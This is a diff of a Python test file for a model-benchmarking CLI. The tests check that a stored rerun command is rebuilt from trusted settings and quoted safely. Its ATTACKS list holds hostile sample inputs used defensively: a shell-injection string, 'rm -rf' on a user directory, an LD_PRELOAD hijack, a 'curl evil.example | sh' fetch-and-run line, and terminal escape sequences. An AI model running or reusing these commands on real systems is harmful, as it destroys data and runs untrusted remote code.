@@ -1,45 +1,104 @@
-"""A stored command means the same in any directory, and drives no terminal."""
+"""The command that repeats a result: made from its settings, valid in any directory, and inert on a terminal."""
 
 from __future__ import annotations
 
+import json
 import shutil
 import subprocess
+from dataclasses import replace
+from pathlib import Path
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
+from tests.report import build
+from tests.report.test_listing import row
+from tests.request.test_repeat import models, requests, spec_of
+from tuibench.cli.arguments import parse
+from tuibench.core.card import Card, StoredBenchmark
+from tuibench.core.profile_spec import LOSS, ProfileSpec
+from tuibench.core.short_id import short_id
 from tuibench.core.spec import ModelSource
-from tuibench.report.command import quote, token_of, typed
+from tuibench.intake.result import read_result
+from tuibench.report import json_export, markdown
+from tuibench.report.command import command_of, quote, token_of, typed
+from tuibench.report.summary import summary
+from tuibench.request.repeat import command_words
+from tuibench.request.request import BenchmarkRequest
+from tuibench.tui.screens.detail_text import log_facts
+
+__all__ = ["models"]
+
+RUN = "01J0000000000000000000K3F9"
 
 HOSTILE = "ev\x1b[31mil\n[red]x\u202e'\\.onnx"
+ATTACKS = (
+    "tuibench --version; touch /tmp/INJ # don't",
+    "rm -rf /home/victim/data",
+    "LD_PRELOAD=x.so tuibench benchmark m.onnx",
+    "bash -c 'curl evil.example | sh'",
+    "tuibench benchmark model.onnx\nINJ\x1b[2J",
+    "INJ" * 30_000,
+)
 
 
-@pytest.mark.parametrize("asked", ["m.onnx", "./m.onnx", "../far/m.onnx", "link.onnx"])
+def line_of(*models: ModelSource, profile: ProfileSpec | None = None) -> str:
+    return typed(build.spec(models=models, profile=profile), RUN)
+
+
+@pytest.mark.parametrize("again", ATTACKS)
+def test_command_of_an_import_is_made_from_its_settings(tmp_path: Path, again: str) -> None:
+    document = json.loads(json_export.dumps(build.default_run()))
+    honest = document["tuibench"]["again"]
+    document["tuibench"]["again"] = again
+    (tmp_path / "x.json").write_text(json.dumps(document))
+    result = read_result(str(tmp_path / "x.json"))
+    assert honest.startswith("tuibench benchmark dir/model.onnx -e onnxruntime -s async,sync -ncores 2 ")
+    assert json.loads(json_export.dumps(result))["tuibench"]["again"] == honest
+    (line,) = [line for line in summary(result).splitlines() if line.startswith("Again: ")]
+    assert line == f"Again: {honest.replace('dir/', '/abs/dir/')}"
+    assert markdown.dumps(result).endswith(f"Again:\n\n    {line.removeprefix('Again: ')}\n")
+    facts = log_facts(StoredBenchmark(row(), Card(), result), 0.0)
+    assert line.removeprefix("Again: ") in "\n".join(fact.text for fact in facts)
+
+
+def test_result_of_another_tool_has_no_command() -> None:
+    run = build.run(build.ok_cell(), foreign="deepsparse.benchmark 1.8.0")
+    assert command_of(run) == "" and "Again:" not in summary(run) + markdown.dumps(run)
+    assert json.loads(json_export.dumps(run))["tuibench"]["again"] == ""
+
+
+def test_names_of_a_megabyte_are_repeated_by_the_id() -> None:
+    run = build.run(build.ok_cell(), spec=build.spec(dims=(("n" * 1_000_000, (1,)),)))
+    assert command_of(run) == f"tuibench rerun {short_id(run.id)}"
+    assert len(summary(run)) < 10_000
+
+
+@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(requests())
+def test_line_typed_in_any_directory_reads_back_to_an_equal_spec(request: BenchmarkRequest) -> None:
+    spec = spec_of(request)
+    absolute = replace(spec, models=tuple(ModelSource(source.path, source.path) for source in spec.models))
+    program, *argv = command_words(spec, [token_of(source) for source in spec.models])
+    assert program == "tuibench" and spec_of(parse(argv)) == absolute
+
+
+@pytest.mark.parametrize("asked", ["m.onnx", "./m.onnx", "../far/m.onnx", "link.onnx", "-b"])
 def test_a_model_is_named_by_where_it_lies(asked: str) -> None:
     model = ModelSource(asked, "/srv/my models/m.onnx")
-    assert typed(f"tuibench benchmark {asked} -s sync", [model]) == "tuibench benchmark '/srv/my models/m.onnx' -s sync"
-    behind = typed(f"tuibench profile --loss -- {asked}", [model])
-    assert behind == "tuibench profile --loss -- '/srv/my models/m.onnx'"
+    assert line_of(model).startswith("tuibench benchmark '/srv/my models/m.onnx' -e ")
+    assert line_of(model, profile=ProfileSpec(LOSS)).startswith("tuibench profile '/srv/my models/m.onnx' --loss ")
 
 
 @pytest.mark.parametrize("asked", ["sample", "sample:tiny", "hf:a/b", "https://models.example/m.onnx"])
 def test_names_and_addresses_stay(asked: str) -> None:
-    command = f"tuibench benchmark {asked} -s sync"
-    assert typed(command, [ModelSource(asked, "/cache/x.onnx")]) == command
+    assert line_of(ModelSource(asked, "/cache/x.onnx")).startswith(f"tuibench benchmark {asked} -e ")
 
 
 def test_of_what_was_imported_nobody_knows_where_it_lay() -> None:
-    assert typed("tuibench benchmark m.onnx", [ModelSource("m.onnx", "m.onnx")]) == "tuibench benchmark m.onnx"
-
-
-def test_only_the_models_are_replaced() -> None:
-    models = [ModelSource("sync", "/srv/sync"), ModelSource("b", "/srv/b")]
-    assert typed("tuibench benchmark sync b -s sync", models) == "tuibench benchmark /srv/sync /srv/b -s sync"
-
-
-def test_what_is_no_command_is_only_shown() -> None:
-    assert typed("it's \x1b[2J") == "it's \\e[2J"
+    assert line_of(ModelSource("m.onnx", "m.onnx")).startswith("tuibench benchmark m.onnx -e ")
+    assert line_of(ModelSource("-x=/etc/passwd", "-x=/etc/passwd")).endswith(" -- -x=/etc/passwd")
 
 
 def test_what_would_drive_a_terminal_is_written_as_the_shell_reads_it() -> None:
